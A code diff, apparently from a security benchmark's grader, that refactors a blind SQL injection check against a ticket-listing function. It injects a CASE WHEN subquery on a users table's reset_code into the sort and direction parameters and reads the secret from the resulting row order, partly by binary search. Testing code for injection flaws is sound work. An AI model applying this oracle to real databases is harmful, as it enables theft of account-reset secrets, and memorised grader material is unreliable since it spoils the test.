@@ -45,11 +45,33 @@ def ask(middle):
     return f"(CASE WHEN (SELECT reset_code FROM users WHERE id = 1) > {middle} THEN id ELSE -id END)"
 
 
-def exploit(code, vary):
+def twins(team):
+    return f"INSERT INTO tickets VALUES (1, {team}, 'A', 'open', 2, NULL, '2026-01-01'), (2, {team}, 'B', 'open', 2, NULL, '2026-01-01')"
+
+
+def exploit_with(code, vary, payloads):
+    """One question, asked with a code above and one below 500000: the order of the rows is the answer."""
+    team = vary.number(3, 90)
+
+    def ask(secret, query):
+        try:
+            return code.list_tickets(psycopg.connect(TABLES % secret + twins(team)), team, query)[0]["id"]
+        except Exception:
+            return None
+
+    for payload in payloads:
+        for query in ({"sort": payload}, {"sort": payload, "direction": "asc"}, {"sort": "priority", "direction": payload}):
+            if ask(vary.number(100_000, 400_000), query) != ask(vary.number(600_000, 900_000), query):
+                return {"sent": payload, "got": "another order of the rows"}
+    return False
+
+
+def exploit(code, vary, payloads=None):
+    if payloads is not None:
+        return exploit_with(code, vary, payloads)
     secret = vary.number(100_000, 999_999)
     team = vary.number(3, 90)
-    conn = psycopg.connect(TABLES % secret + f"""INSERT INTO tickets VALUES
-        (1, {team}, 'A', 'open', 2, NULL, '2026-01-01'), (2, {team}, 'B', 'open', 2, NULL, '2026-01-01')""")
+    conn = psycopg.connect(TABLES % secret + twins(team))
     for form in FORMS:
         try:
             low, high = 0, 999_999
